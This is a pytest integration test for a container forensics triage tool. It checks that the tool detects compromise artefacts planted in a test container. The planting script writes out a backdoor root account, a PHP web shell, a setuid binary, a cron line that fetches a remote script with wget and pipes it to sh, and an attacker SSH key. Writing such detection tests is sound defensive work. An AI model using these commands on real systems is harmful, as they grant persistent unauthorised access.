"""The container triage steps against real victims: what lands in the archive under containers/<id>/."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docker
import pytest
from testcontainers.core.container import DockerContainer

from forensics import tools
from forensics.context import HostContext
from forensics.evidence.verify import verify
from forensics.records import NotAvailable
from forensics.steps import REGISTRY, TriageOptions
from forensics.triage import load_steps, run_triage

pytestmark = [pytest.mark.docker, pytest.mark.root]

STEPS = ["disk.inventory", "engine.inventory", "containers.list", "containers.inspect", "containers.logs",
         "containers.diff", "containers.extract", "containers.compare"]  # fmt: skip
SCRIPT = r"""
echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd
mkdir -p /var/www/html && echo '<?php system($_GET["c"]); ?>' > /var/www/html/up.php
cp /bin/busybox /tmp/.k && chmod 4755 /tmp/.k
rm /etc/group
mkdir -p /etc/crontabs /root/.ssh /var/tmp/.x
echo '*/5 * * * * wget -qO- http://203.0.113.66/x.sh | sh' >> /etc/crontabs/root
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHiGfCGmZVIfX4gyFHN3TpZUurHTw3Uk1j0ItF+DCew4 root@kali' >> /root/.ssh/authorized_keys
cp /bin/busybox /var/tmp/.x/xmrig
echo READY
exec sleep 600
"""


def _ready(container: DockerContainer) -> str:
    wrapped = container.get_wrapped_container()
    deadline = time.monotonic() + 60
    while b"READY" not in wrapped.logs():
        if time.monotonic() > deadline:
            pytest.fail("victim did not get ready")
        time.sleep(0.2)
    return str(wrapped.id)


@pytest.fixture()
def victims(busybox_image: str) -> Iterator[list[str]]:
    first = DockerContainer(busybox_image).with_command(["sh", "-c", SCRIPT])
    second = DockerContainer(busybox_image).with_command(["sh", "-c", "echo READY; exec sleep 600"])
    first.start()
    second.start()
    try:
        yield [_ready(first), _ready(second)]
    finally:
        first.stop()
        second.stop()


def _docker_cp(container_id: str, path: str) -> bytes:
    client = docker.from_env()
    try:
        stream, _ = client.api.get_archive(container_id, path)
        with tarfile.open(fileobj=io.BytesIO(b"".join(stream))) as tar:
            member = tar.next()
            assert member is not None
            extracted = tar.extractfile(member)
            assert extracted is not None
            return extracted.read()
    finally:
        client.close()


def _engine_changes(cid: str) -> set[tuple[str, str]]:
    api = docker.APIClient()
    try:
        return {("CAD"[c["Kind"]], c["Path"]) for c in api.diff(cid) or []}
    finally:
        api.close()


def test_triage_collects_each_container(victims: list[str], tmp_path: Path) -> None:
    load_steps()
    host = HostContext.build(Path("/"), None, False)
    options = TriageOptions(containers=[cid[:12] for cid in victims])
    result = run_triage(host, tmp_path, options, argv=["test"], steps=[REGISTRY[n] for n in STEPS])
    assert {o.name: o.status for o in result.outcomes} == dict.fromkeys(STEPS, "ok")
    assert verify(result.archive.path).intact
    with tarfile.open(result.archive.path) as tar:
        top = tar.getnames()[0].split("/")[0]

        def read(name: str) -> bytes:
            member = tar.extractfile(f"{top}/{name}")
            assert member is not None, name
            return member.read()

        def load(name: str) -> Any:
            return json.loads(read(name))

        names = set(tar.getnames())
        bad, quiet = victims
        for cid in victims:
            base = f"containers/{cid}"
            diff = load(f"{base}/diff.json")
            assert {(c["kind"], c["path"]) for c in diff["changes"]} == _engine_changes(cid)
            inspect = load(f"{base}/inspect.json")
            assert inspect["api"]["Id"] == cid and inspect["disk"]["config.v2.json"]["ID"] == cid
            assert inspect["differences"] == []
            assert b"READY" in read(f"{base}/{cid}-json.log")
            assert b"READY" in read(f"{base}/api-logs.txt")
        base = f"containers/{bad}"
        index = {f["path"]: f for f in load(f"{base}/files.json")["files"]}
        passwd = index["/etc/passwd"]
        assert passwd["status"] == "copied" and passwd["kind"] == "C"
        assert read(passwd["archive_name"]) == _docker_cp(bad, "/etc/passwd")
        assert passwd["sha256"] == hashlib.sha256(_docker_cp(bad, "/etc/passwd")).hexdigest()
        assert index["/tmp/.k"]["meta"]["permissions"] == "-rwsr-xr-x"
        assert f"{top}/{base}/compare/etc/passwd.json" in names
        assert b"+toor:x:0:0::/root:/bin/sh" in read(f"{base}/compare/etc/passwd.diff")
        logged = [json.loads(line) for line in read("acquisition.log").splitlines()]
        assert not [e for e in logged if e["step"].startswith("containers.") and e["status"] == "failed"]
    mine = {(f.rule, f.subject) for f in result.findings}
    subject = f"container:{bad}"
    expected = [
        "container.accounts.uid-0",
        "container.webshell.pattern",
        "container.exec.setuid",
        "container.exec.elf-in-tmp",
        "container.accounts.files",
    ]
    if not isinstance(tools.which("yara"), NotAvailable):
        expected.append("container.yara.webshell_php_request_eval")
    for rule in expected:
        assert (rule, subject) in mine, rule
    assert not [f for f in result.findings if f.subject == f"container:{quiet}"]
    # As the lab's e2e test asks: a finding about the container names each planted path.
    texts = [
        f"{f.title}\n{f.details}\n{' '.join(f.evidence)}" for f in result.findings if f.subject == subject
    ]
    for planted in ("/etc/passwd", "/etc/crontabs/root", "/root/.ssh/authorized_keys", "/var/tmp/.x/xmrig",
                    "/var/www/html/up.php"):  # fmt: skip
        assert any(planted in text for text in texts), planted
